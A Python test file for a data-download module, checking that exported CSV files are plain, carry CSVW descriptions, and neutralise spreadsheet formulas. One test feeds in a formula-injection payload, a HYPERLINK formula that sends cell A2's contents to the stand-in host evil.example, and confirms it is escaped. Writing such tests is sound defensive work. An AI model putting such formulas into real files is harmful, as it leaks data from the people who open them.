"""Your data downloads (components/your_data_files.py): the matched data as plain, formula-safe CSV with its
CSVW description, the blank template and the example file made from snapshot rows."""

from __future__ import annotations

import numpy as np
import pandas as pd

from components import your_data_files as yd_files
from loaders.uploads import matching, read_values_upload
from tests.components.your_data_data import (
    AREAS,
    LADS,
    METADATA,
    XSS,
    lep_values,
    official_rows,
    reference,
)
from tests.export_checks import check_csvw, could_run_as_formula, csv_cells, read_plain_csv


def test_matched_csv_is_plain_described_and_formula_safe() -> None:
    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
    values.loc[1, "name_in_file"] = '=HYPERLINK("http://x")'
    data = yd_files.matched_csv(values, level="lep", column="Score", period=2022)
    body = read_plain_csv(data)
    assert body["Score"].tolist() == list(map(float, range(10)))
    assert body["level"].unique().tolist() == ["lep"] and body["period"].unique().tolist() == [2022]
    assert body.loc[1, "name_in_file"].startswith("'=")
    assert body.loc[0, "name_in_file"] == XSS
    document = check_csvw(
        data,
        yd_files.matched_csvw(values, source="my.csv", level="lep", column="Score", period=2022, csv_name="m.csv"),
        "m.csv",
    )
    assert "Your data: my.csv (uploaded, not checked by us)" in document["dc:description"]
    assert "Open Government Licence v3.0" in document["dc:source"]


def test_a_formula_as_the_users_column_name_is_made_inert() -> None:
    """Issue 12, item 5: the header was renamed to the user's column name and written unescaped."""
    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
    column = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    data = yd_files.matched_csv(values, level="lep", column=column, period=2022)
    assert "'" + column in read_plain_csv(data).columns
    assert not [cell for cell in csv_cells(data) if could_run_as_formula(cell)]


def test_template_lists_the_level_areas() -> None:
    template = pd.read_csv(
        pd.io.common.BytesIO(yd_files.template_csv(AREAS, "cauth")), dtype=str, keep_default_na=False
    )
    assert sorted(template["area_code"]) == sorted(reference("cauth"))
    assert set(template["value"]) == {""}


def test_example_file_round_trips_the_snapshot_values() -> None:
    rows = official_rows("employment_rate_16_64", "lad", 2023)
    upload = read_values_upload("example.csv", yd_files.example_csv(rows, METADATA["employment_rate_16_64"], LADS))
    assert upload.key_kind == "name"
    matches = matching.match_upload(upload, LADS)
    assert matches["status"].eq(matching.MATCHED).all()
    values = matching.matched_values(upload, matches, upload.value_columns[0], None).set_index("area_code")
    expected = rows.set_index("area_code")
    np.testing.assert_allclose(values["value"], expected.loc[values.index, "value"].round(1), equal_nan=True)
    missing = expected["value"].isna()
    assert (values.loc[missing[missing].index, "status"] == expected.loc[missing, "status"]).all()
